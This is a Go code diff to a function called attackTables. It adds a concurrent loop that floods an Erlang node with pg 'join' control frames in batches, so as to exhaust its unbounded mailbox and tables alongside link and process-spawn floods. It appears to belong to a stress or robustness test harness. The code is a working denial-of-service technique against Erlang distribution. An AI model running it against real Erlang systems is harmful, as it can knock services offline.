@@ -233,9 +233,9 @@ func attackTables(a *attempt) {
 		},
 		"links":     func(e *raw.Erlang, i int) []byte { return e.ControlFrame(wire.Tuple{1, e.PID(uint64(i + 1)), victim}) },
 		"processes": func(e *raw.Erlang, i int) []byte { return e.ControlFrame(spawnRequest(e, i, "echo", 0), wire.List{}) },
-		"groups": func(e *raw.Erlang, i int) []byte {
-			return e.ControlFrame(wire.Tuple{6, e.PID(1), wire.Atom(""), wire.Atom("pg")}, wire.Tuple{wire.Atom("join"), e.PID(1), i, e.PID(1)})
-		},
+	}
+	join := func(e *raw.Erlang, i int) []byte {
+		return e.ControlFrame(wire.Tuple{6, e.PID(1), wire.Atom(""), wire.Atom("pg")}, wire.Tuple{wire.Atom("join"), e.PID(1), i, e.PID(1)})
 	}
 	var all sync.WaitGroup
 	for range 8 {
@@ -244,6 +244,18 @@ func attackTables(a *attempt) {
 			e.Patience = 5 * time.Second
 			all.Go(func() { _ = a.sendErlang(e, each, func(i int) []byte { return frame(e, i) }) })
 		}
+		joiner := a.erlang()
+		joiner.Patience = 5 * time.Second
+		all.Go(func() { // it waits for pg: what waits in a mailbox is not bounded, and in no table
+			for at := 0; at < each; at += 4096 {
+				if a.sendErlang(joiner, 4096, func(i int) []byte { return join(joiner, at+i) }) != nil {
+					return
+				}
+				if _, err := joiner.Call("pg", wire.Tuple{wire.Atom("demonitor"), joiner.Ref(9)}); err != nil {
+					return
+				}
+			}
+		})
 		e := a.headed()
 		e.Patience = 5 * time.Second
 		all.Go(func() {
